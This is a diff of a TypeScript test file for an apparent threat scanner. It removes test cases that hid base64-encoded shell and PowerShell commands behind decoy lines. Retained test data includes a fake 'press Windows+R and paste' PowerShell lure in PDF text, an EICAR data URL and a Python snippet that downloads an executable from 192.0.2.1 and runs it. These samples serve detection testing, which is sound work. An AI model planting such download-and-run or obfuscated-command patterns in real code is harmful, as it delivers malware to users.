@@ -11,7 +11,6 @@ import { KNOWN_MAX } from './formats/pdf/active/document.ts'
 import { NAME_LENGTH_MAX } from './formats/pdf/active/names.ts'
 import { SHOWN_MAX } from './formats/pdf/active/streams.ts'
 import { FILTERS_MAX } from './formats/pdf/streams/filters.ts'
-import { CODED_MAX } from './formats/scripts/coded.ts'
 import { STATEMENT_MAX, URLS_MAX } from './formats/scripts/flow.ts'
 import { FILES_MAX } from './formats/scripts/python.ts'
 import { BLOCK_MAX } from './formats/scripts/statements.ts'
@@ -34,11 +33,6 @@ const PAGE_TEXT = 'BT (Press Windows + R, then Ctrl + V) Tj (powershell -w hidde
 const DATA_URL = (scheme: string): string => `<html><a href="data:text/html;${scheme},${base64(EICAR)}">x</a></html>`
 const stream = (entries: string, data: string): string =>
   `<< ${entries} /Length ${data.length} >>\nstream\n${data}\nendstream`
-const decoys = (count: number, name: (i: number) => string): string =>
-  times(
-    count,
-    (i) => `${name(i)} = "${base64(`Here is another ordinary sentence, which has number ${i}, and a long end.`)}"\n`,
-  )
 
 /** By the name of what is counted: the limit, and a document with so many that a threat is the last of them, or behind them. */
 const ROWS: Readonly<Record<string, [limit: number, name: string, of: (count: number) => string | Buffer]>> = {
@@ -99,18 +93,6 @@ const ROWS: Readonly<Record<string, [limit: number, name: string, of: (count: nu
     'a.py',
     (count) =>
       `import urllib.request, os\n${times(count, (i) => `open("${i}.txt", "wb").write(urllib.request.urlopen("https://a.example/${i}").read())\n`)}f = open("a.exe", "wb")\nf.write(urllib.request.urlopen("http://192.0.2.1/a.exe").read())\nf.close()\nos.startfile("a.exe")\n`,
-  ],
-  'coded texts in Python': [
-    CODED_MAX,
-    'a.py',
-    (count) =>
-      `import base64, os\n${decoys(count, (i) => `t${i}`)}os.system(base64.b64decode("${base64(COMMAND)}").decode())\n`,
-  ],
-  'coded texts in PowerShell': [
-    CODED_MAX,
-    'a.ps1',
-    (count) =>
-      `${decoys(count, (i) => `$t${i}`)}$c = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("${base64(COMMAND)}"))\ncmd /c $c\n`,
   ],
   'addresses of a shell script': [
     URLS_MAX,
